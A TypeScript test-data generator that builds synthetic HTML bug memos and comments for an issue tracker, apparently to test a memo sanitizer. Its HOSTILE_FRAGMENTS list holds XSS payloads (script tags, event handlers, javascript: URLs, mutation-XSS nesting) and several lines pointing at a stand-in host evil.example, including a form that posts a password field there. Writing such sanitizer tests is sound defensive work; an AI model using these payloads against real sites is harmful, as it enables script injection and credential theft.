// HTML memos in the style ALM stores them: whole documents (`<html><body>…</body></html>`),
// comments as `<b>user, date:</b> text` blocks separated by a rule, tables, lists and links.
// Hostile fragments carry `window.__xss=1` so a test can tell that one of them executed.
import type { Random } from './random';

const wrap = (body: string) => `<html><body>\n${body}\n</body></html>`;
const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

const STEPS = [
  'Sign in as a user with the <i>Editor</i> role',
  'Open the page from the main menu',
  "Enter <code>O'Brien &amp; Sons</code> in the search box",
  'Select more than 100 rows',
  'Press <b>Save</b> twice quickly',
  'Switch the language to Deutsch (ä, ö, ü) and back',
  'Wait for the session to expire (about 11 minutes)',
  'Export the result as PDF',
];

const LINKS = [
  ['https://example.com/wiki/Known-issues', 'Known issues page'],
  ['https://example.com/support/KB-1042', 'KB-1042'],
  ['mailto:qa-team@example.com', 'QA team'],
] as const;

const TRACE = `java.lang.NullPointerException: customer is null
    at com.example.orders.OrderService.total(OrderService.java:118)
    at com.example.orders.OrderController.get(OrderController.java:52)`;

export function descriptionHtml(rng: Random, summary: string): string {
  const parts = [`<p>${esc(summary)}.</p>`];
  const steps = rng.sample(STEPS, rng.int(2, 4));
  parts.push(`<p><b>Steps to reproduce</b></p>\n<ol>\n${steps.map((s) => `<li>${s}</li>`).join('\n')}\n</ol>`);
  parts.push('<p><b>Expected:</b> the page saves once and shows a confirmation.<br />\n<b>Actual:</b> an error is shown and nothing is saved.</p>');
  if (rng.chance(0.4)) {
    parts.push(
      '<table border="1" cellpadding="2">\n<tr><th>Browser</th><th>Version</th><th>Result</th></tr>\n' +
        `<tr><td>Chrome</td><td>${rng.int(118, 131)}</td><td style="color:#c00000">fails</td></tr>\n` +
        `<tr><td>Firefox</td><td>${rng.int(115, 133)}</td><td>works</td></tr>\n</table>`,
    );
  }
  if (rng.chance(0.3)) {
    const [href, text] = rng.pick(LINKS);
    parts.push(`<p>See also <a href="${href}">${text}</a>.</p>`);
  }
  if (rng.chance(0.2)) parts.push(`<pre>${esc(TRACE)}</pre>`);
  if (rng.chance(0.15)) parts.push('<ul><li>Happens on 日本語 locale too</li><li>Not seen in 1.0&nbsp;GA</li></ul>');
  return wrap(parts.join('\n'));
}

const REMARKS = [
  'Reproduced on the test server.',
  'Could not reproduce; please attach the server log.',
  'Root cause: the total is computed before the discount is applied.',
  'Fixed in the nightly build, please verify.',
  'Verified in build 2.1.345 &ndash; closing.',
  'Raised priority after a customer escalation.',
  'Duplicate of an older report? Checking.',
  'Workaround: refresh the page before saving.',
];

/** `<b>alice, 2026-01-05:</b> text` blocks, newest last, as ALM's comment button writes them. */
export function commentsHtml(rng: Random, users: readonly string[], firstDate: string, count: number): string {
  const blocks: string[] = [];
  let day = Date.parse(`${firstDate}T00:00:00Z`);
  for (let i = 0; i < count; i++) {
    day += rng.int(0, 6) * 86_400_000;
    const date = new Date(day).toISOString().slice(0, 10);
    blocks.push(`<div align="left"><font face="Arial"><span style="font-size:8pt"><b>${rng.pick(users)}, ${date}:</b> ${rng.pick(REMARKS)}</span></font></div>`);
  }
  return wrap(blocks.join('\n<div align="left"><font face="Arial"><span style="font-size:8pt">________________________________________</span></font></div>\n'));
}

/** Every hostile construct a memo sanitizer must neutralise. */
export const HOSTILE_FRAGMENTS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<img src="x" onerror="window.__xss=1">',
  '<a href="javascript:window.__xss=1">click me</a>',
  '<a href="JaVaScRiPt:window.__xss=1">mixed-case scheme</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>window.parent.__xss=1</script>"></iframe>',
  '<svg onload="window.__xss=1"><script>window.__xss=1</script><circle r="5"/></svg>',
  '<div style="background-image:url(javascript:window.__xss=1)">styled</div>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<form action="https://evil.example/steal"><input name="password" autofocus onfocus="window.__xss=1"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1"></style></mglyph></table></mtext></math>',
  '<details open ontoggle="window.__xss=1"><summary>details</summary></details>',
];

export function hostileDescription(): string {
  return wrap(`<p>This defect carries hostile HTML for security tests. Nothing below may run.</p>\n${HOSTILE_FRAGMENTS.join('\n')}`);
}

export function hostileComment(rng: Random, users: readonly string[], date: string): string {
  return wrap(`<div align="left"><b>${rng.pick(users)}, ${date}:</b> pasted from a web page: ${rng.pick(HOSTILE_FRAGMENTS)}</div>`);
}

/** A memo that shows an attachment inline, the way a rich-text image links to its file. */
export function imageDescription(summary: string, imageUrl: string): string {
  return wrap(
    `<p>${esc(summary)}.</p>\n<p>Screenshot of the failure:</p>\n` +
      `<p><img src="${esc(imageUrl)}" alt="screenshot.png" width="320" height="160" /></p>\n` +
      '<p>The red bar marks the wrong total.</p>',
  );
}
